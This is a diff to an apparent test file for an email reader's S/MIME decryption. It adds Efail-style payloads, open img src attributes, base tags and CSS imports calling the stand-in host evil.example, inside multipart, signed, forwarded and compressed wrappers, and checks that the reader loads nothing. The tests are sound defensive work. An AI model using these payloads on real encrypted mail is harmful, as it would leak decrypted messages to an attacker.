@@ -5,7 +5,7 @@ import { encode, explicit, implicitPrimitive, integer, octetString, oid, sequenc
 import { toBase64, utf8 } from '../../../static/js/cms/octets.js';
 import { CONTENT_TYPE } from '../../../static/js/cms/oids.js';
 import { openssl, put } from '../cms/openssl.js';
-import { TEXT, carrying, detached, encrypted, letter, message, multipart, open, seen } from './messages.js';
+import { TEXT, carrying, compressed, detached, encrypted, letter, message, multipart, opaque, open, seen } from './messages.js';
 
 const HTML = 'Content-Type: text/html\r\n\r\n<p>bonjour</p><img src="http://evil.example/">';
 
@@ -103,6 +103,28 @@ test('unsigned CBC is shown as text, signed CBC as it is [N30]', async () => {
   const altered = await open(message(carrying(await encrypted(broken, 'aes-256-cbc'))));
   assert.equal(altered.html, null);
 });
+
+const LEAK = 'Content-Type: text/html\r\n\r\n<img src="http://evil.example/?';
+/** @type {Record<string, () => Promise<Uint8Array | string> | Uint8Array | string>} ways to make a reader send what CBC decrypts to */
+const EFAIL = {
+  'an open attribute': () => LEAK,
+  'around the text, in one multipart': () => multipart('mixed', LEAK, TEXT, 'Content-Type: text/html\r\n\r\n">'),
+  'an alternative': () => multipart('alternative', TEXT, LEAK),
+  'a related root': () => multipart('related', LEAK, 'Content-Type: image/png\r\nContent-ID: <a>\r\n\r\nx'),
+  'a multipart without end': () => `Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n${LEAK}`,
+  'style and base': () => 'Content-Type: text/html\r\n\r\n<base href="http://evil.example/"><style>@import url(http://evil.example/);</style>bonjour',
+  'below a signature that does not hold': async () => detached(LEAK, (await opaque('x'))),
+  'below a wrapped message': () => `Content-Type: message/rfc822; forwarded=no\r\n\r\nSubject: s\r\n${LEAK}`,
+  'in compressed data': () => carrying(compressed(LEAK)),
+};
+for (const [name, make] of Object.entries(EFAIL)) {
+  test(`Efail: ${name}: text and nothing that loads [N30]`, async () => {
+    const opened = await open(message(carrying(await encrypted(await make(), 'aes-256-cbc'))));
+    assert.deepEqual([opened.html, opened.encrypted], [null, true]);
+    assert.ok(opened.notices.includes('plain-text-only'));
+    assert.ok(!opened.text.includes('evil.example'));
+  });
+}
 
 test('the same ciphertext under another From, or embedded, is named a copy [N26]', async () => {
   const part = carrying(await encrypted(letter()));
